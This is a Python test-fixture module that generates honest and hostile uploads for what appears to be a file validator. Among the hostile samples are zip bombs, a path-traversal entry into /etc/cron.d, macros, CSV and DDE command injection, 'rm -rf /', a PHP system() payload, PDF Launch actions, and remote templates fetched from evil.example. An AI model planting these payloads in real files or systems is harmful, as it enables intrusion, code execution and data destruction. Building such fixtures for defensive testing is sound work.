"""Files as people bring them, and as nobody should: each made in memory, honest or hostile."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any

import docx
import pikepdf

MB = 1024 * 1024
OFFICE = "application/vnd.openxmlformats-officedocument"
MAIN = {
    "docx": ("word/document.xml", f"{OFFICE}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OFFICE}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OFFICE}.presentationml.presentation.main+xml"),
}
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Parts = Mapping[str, bytes]


def package(parts: Parts, *, stored: tuple[str, ...] = ()) -> bytes:
    """A zip container of these parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as box:
        for name, content in parts.items():
            how = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            box.writestr(zipfile.ZipInfo(name), content, compress_type=how)
    return made.getvalue()


def office(kind: str = "docx", more: Parts | None = None, *, types: str = "") -> bytes:
    """The least office file of a kind, with further parts and content types."""
    main, main_type = MAIN[kind]
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="'
        'http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{main}" ContentType="{main_type}"/>{types}</Types>'
    )
    parts = {
        "[Content_Types].xml": content_types.encode(),
        "_rels/.rels": relations("officeDocument", main),
        main: b'<?xml version="1.0" encoding="UTF-8"?><root>B\xc3\xa1o c\xc3\xa1o</root>',
    }
    return package(parts | dict(more or {}))


def relations(what: str, target: str, *, external: bool = False) -> bytes:
    """A part that relates to another one, or to something elsewhere."""
    mode = ' TargetMode="External"' if external else ""
    return (
        f'<Relationships><Relationship Id="r1" Type="{RELATIONS}/{what}" Target="{target}"{mode}/>'
        "</Relationships>"
    ).encode()


def open_document(kind: str = "text", more: Parts | None = None) -> bytes:
    """The least ODT or ODS, with further parts."""
    parts = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
        "content.xml": b'<?xml version="1.0" encoding="UTF-8"?><office:document-content/>',
        "META-INF/manifest.xml": b"<manifest:manifest/>",
    }
    return package(parts | dict(more or {}), stored=("mimetype",))


def written() -> bytes:
    """A DOCX as the library of the reports writes it."""
    made = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Biên bản tập huấn")
    document.save(made)
    return made.getvalue()


def png(width: int = 3, height: int = 2, *, more: bytes = b"") -> bytes:
    """A PNG whose header says these sizes; further chunks go before its end."""
    head = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 21)
    chunks = chunk(b"IHDR", head) + chunk(b"IDAT", rows) + more + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def chunk(name: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">L", len(content))
        + name
        + content
        + struct.pack(">L", zlib.crc32(name + content))
    )


def jpeg(width: int = 3, height: int = 2, *, more: bytes = b"", scans: int = 1) -> bytes:
    """A JPEG whose header says these sizes; its picture is noise."""
    frame = segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x12\xff\x00\x34\xff\xd0\x56"
    return b"\xff\xd8" + segment(0xE0, b"JFIF\0") + more + frame + scan * scans + b"\xff\xd9"


def segment(marker: int, content: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **how: Any) -> bytes:
    """A PDF of one page, changed before it is saved."""
    made = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        if change:
            change(document)
        document.save(made, **how)
    return made.getvalue()


def _action(kind: str, **more: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)

    return change


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["luong.xlsx"] = b"PK\x03\x04"


def _image(width: int) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        image = pikepdf.Dictionary(Subtype=pikepdf.Name.Image, Width=width, Height=width)
        document.Root.Picture = document.make_stream(b"", image)

    return change


def _many_objects(document: pikepdf.Pdf) -> None:
    document.Root.Many = pikepdf.Array(
        [document.make_indirect(pikepdf.Dictionary(A=n)) for n in range(60_000)]
    )


def lying(content: bytes, size: int) -> bytes:
    """A container whose every part says, in both places, that it unpacks to another size."""
    made = bytearray(content)
    for sign, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = -1
        while (at := made.find(sign, at + 1)) >= 0:
            struct.pack_into("<L", made, at + place, size)
    return bytes(made)


def overlapping() -> bytes:
    """Two entries whose directory lines point to one content."""
    made = bytearray(office(more={"word/a.xml": b"<a/>", "word/b.xml": b"<a/>"}))
    first, second = made.find(b"PK\x01\x02"), made.rfind(b"PK\x01\x02")
    made[second + 42 : second + 46] = made[first + 42 : first + 46]
    return bytes(made)


def many_entries(count: int = 60_000) -> bytes:
    return package({f"word/{number}.xml": b"" for number in range(count)})


def swollen(unpacked: int) -> bytes:
    return office(more={"word/big.xml": b"<a>" + b" " * unpacked})


HONEST = {
    "bien-ban.docx": written(),
    "bao-cao.docx": office("docx"),
    "so-lieu.xlsx": office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"\0" * 90}),
    "trinh-bay.pptx": office("pptx", {"ppt/embeddings/Sheet1.xlsx": office("xlsx")}),
    "mau.docx": office(
        more={
            "word/_rels/settings.xml.rels": relations(
                "attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", external=True
            ),
            "word/_rels/document.xml.rels": relations(
                "hyperlink", "https://gialai.gov.vn/", external=True
            ),
        }
    ),
    "van-ban.odt": open_document("text", {"Object 1": b"VCLMTF", "Thumbnails/thumbnail.png": png()}),
    "chep.odt": open_document("text", {"a.xml": b'<text:bookmark text:name="__DdeLink__8_7"/>'}),
    "bang.ods": open_document("spreadsheet"),
    "anh.png": png(more=chunk(b"tEXt", b"Comment\0Pleiku")),
    "anh.jpg": jpeg(4000, 3000, more=segment(0xFE, b"may anh")),
    "quet.pdf": pdf(),
    "luu-nen.pdf": pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "danh-sach.csv": "STT;Đơn vị;Tỷ lệ\n1;Sở Công Thương;45,5%\n".encode("utf-8-sig"),
    "cu.csv": "STT,Huyện\n1,Đức Cơ".encode("cp1258", "replace") + b"\xd0\xdd\n",
    "excel.txt": "STT\tĐơn vị\n1\tSở Y tế\n".encode("utf-16"),
    "ghi-chu.txt": "MZ là chữ đầu; 3 < 5 và 7 > 2.\n".encode(),
}  # fmt: skip

HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "an empty file": ("empty", bytes),
    "a zip archive": ("archive", lambda: package({"a.txt": b"a"})),
    "a rar archive": ("archive", lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 50),
    "a Windows program": ("program", lambda: b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 90),
    "a Linux program": ("program", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 90),
    "a page": ("markup", lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    "a vector picture with a script": ("markup", lambda: b"<svg onload='alert(1)'/>"),
    "a page after much text": ("markup", lambda: b"a,b\n" * MB + b"<ScRiPt>"),
    "a page in UTF-16": ("markup", lambda: "chữ <script>".encode("utf-16")),
    "a shell script": ("markup", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "a CSV that starts a program": ("active", lambda: b"a;b\n=cmd|'/C calc'!A0;1\n"),
    "noise": ("type", lambda: bytes(range(256)) * 40),
    "an old Word file": ("old_office", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "a WebP": ("other_picture", lambda: b"RIFF\x10\0\0\0WEBPVP8 " + b"\0" * 50),
    "a HEIC": ("other_picture", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 50),
    "a GIF": ("other_picture", lambda: b"GIF89a" + b"\0" * 50),
    # Containers
    "a bomb": ("bomb", lambda: swollen(150 * MB)),
    "a bomb below the limit": ("bomb", lambda: swollen(60 * MB)),
    "a bomb that says it is small": ("bomb", lambda: lying(swollen(60 * MB), 40)),
    "a size that is too small": ("bomb", lambda: lying(office(), 10)),
    "a size that is too large": ("broken", lambda: lying(office(), 1000)),
    "a bomb inside an embedded file": (
        "bomb",
        lambda: office("pptx", {"ppt/embeddings/a.xlsx": swollen(90 * MB)}),
    ),
    "a file in a file in a file": (
        "embedded",
        lambda: office(more={"a/b.docx": office(more={"a/c.docx": office()})}),
    ),
    "entries that overlap": ("bomb", overlapping),
    "too many entries": ("bomb", many_entries),
    "a name with two parts of one place": (
        "odd_entry",
        lambda: office(more={"../../etc/cron.d/a.xml": b"<a/>"}),
    ),
    "a name twice": ("odd_entry", lambda: office(more={"WORD/document.xml": b"<a/>"})),
    "text before the container": ("markup", lambda: b"<?\0" + office()),
    "text behind the container": ("appended", lambda: office() + b"<script>"),
    "half a container": ("broken", lambda: office()[:-40]),
    "entities that swell": (
        "entities",
        lambda: office(more={"word/a.xml": b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'}),
    ),
    "entities after much text": (
        "entities",
        lambda: office(more={"word/a.xml": b"<a>" + b"ab " * 87_380 + b"<!ENTITY"}),
    ),
    "entities in UTF-16": (
        "broken",
        lambda: office(more={"word/a.xml": '<!DOCTYPE a []>'.encode("utf-16")}),
    ),
    # What acts
    "macros": ("macro", lambda: office(more={"word/vbaProject.bin": b"\0"})),
    "macros under another name": (
        "macro",
        lambda: office(more={"word/_rels/document.xml.rels": relations("vbaProject", "a.bin")}),
    ),
    "a document with macros called DOCX": (
        "macro",
        lambda: office(
            types='<Override PartName="/a" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
    ),
    "macros of Excel 4": ("macro", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"})),
    "macros of LibreOffice": ("macro", lambda: open_document("text", {"Basic/a.xml": b"<a/>"})),
    "an event that runs a macro": (
        "macro",
        lambda: open_document("text", {"a.xml": b"<a><script:event-listener/></a>"}),
    ),
    "an OLE object": (
        "embedded",
        lambda: office(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 90}),
    ),
    "a program called a picture": ("embedded", lambda: office(more={"word/media/a.png": b"MZ\x90"})),
    "a script among the parts": ("embedded", lambda: office(more={"word/a.js": b"alert(1)"})),
    "a control": ("active", lambda: office(more={"word/activeX/activeX1.xml": b"<a/>"})),
    "a field that starts a program": (
        "active",
        lambda: office(more={"word/a.xml": b"<w:instrText>DDEAUTO c:\\cmd</w:instrText>"}),
    ),
    "a template from elsewhere": (
        "remote",
        lambda: office(
            more={
                "word/_rels/settings.xml.rels": relations(
                    "attachedTemplate", "https://evil.example/a.dotm", external=True
                )
            }
        ),
    ),
    "a picture from another machine": (
        "remote",
        lambda: office(
            more={"word/_rels/a.xml.rels": relations("image", "file://evil/a.png", external=True)}
        ),
    ),
    "an object from elsewhere": (
        "active",
        lambda: office(
            more={
                "word/_rels/a.xml.rels": relations(
                    "oleObject", "mhtml:http://evil.example/a!x", external=True
                )
            }
        ),
    ),
    "a locked ODT": (
        "password",
        lambda: open_document("text", {"META-INF/manifest.xml": b"<m><manifest:encryption-data/></m>"}),
    ),
    "a giant picture in a document": (
        "giant_picture",
        lambda: office(more={"word/media/a.png": png(60_000, 60_000)}),
    ),
    # Pictures
    "a giant PNG": ("giant_picture", lambda: png(60_000, 60_000)),
    "a giant JPEG": ("giant_picture", lambda: jpeg(60_000, 60_000)),
    "a JPEG of a thousand scans": ("bomb", lambda: jpeg(scans=1000)),
    "a JPEG with a zip behind it": ("appended", lambda: jpeg() + package({"a.exe": b"MZ"})),
    "a JPEG with a script in a comment": (
        "markup",
        lambda: jpeg(more=segment(0xFE, b"<?php system('id') ?>")),
    ),
    "a PNG with a zip behind it": ("appended", lambda: png() + package({"a.exe": b"MZ"})),
    "a PNG with a page behind it": ("appended", lambda: png() + b"<html><script>"),
    "a PNG with a zip inside": (
        "appended",
        lambda: png(more=chunk(b"puNk", package({"a.exe": b"MZ"}))),
    ),
    "a PNG with a script in a text": ("markup", lambda: png(more=chunk(b"tEXt", b"a\0<script>"))),
    "half a PNG": ("broken", lambda: png()[:-12]),
    "half a JPEG": ("broken", lambda: jpeg()[:-8]),
    # PDF
    "a PDF with a script": ("pdf_script", lambda: pdf(_action("JavaScript", JS="app.alert(1)"))),
    "a PDF that launches": ("pdf_script", lambda: pdf(_action("Launch", F="cmd.exe"))),
    "a PDF with a script under an odd name": (
        "pdf_script",
        lambda: pdf(_action("JavaScript", JS="x")).replace(b"/JavaScript", b"/J#61vaScript"),
    ),
    "a PDF with a script in an object stream": (
        "pdf_script",
        lambda: pdf(
            _action("JavaScript", JS="x"), object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
    ),
    "a PDF with an attached file": ("pdf_attachment", lambda: pdf(_attached)),
    "a PDF with a password": (
        "password",
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
    ),
    "a PDF that is locked against changes": (
        "password",
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")),
    ),
    "a PDF with a giant picture": ("giant_picture", lambda: pdf(_image(60_000))),
    "a PDF of 60 000 objects": ("too_much", lambda: pdf(_many_objects)),
    "a PDF with a zip behind it": ("appended", lambda: pdf() + package({"a.exe": b"MZ"})),
    "a PDF with something before it": ("junk_before", lambda: b"GIF\n" + pdf()),
    "a PDF with a page in its head": (
        "markup",
        lambda: pdf().replace(b"%PDF-1.", b"%PDF-1.7 <script>alert(1)</script>\n%", 1),
    ),
    "half a PDF": ("broken", lambda: pdf()[:200]),
    "a PDF that is none": ("broken", lambda: b"%PDF-1.7\n" + b"a" * 500 + b"\n%%EOF\n"),
}  # fmt: skip
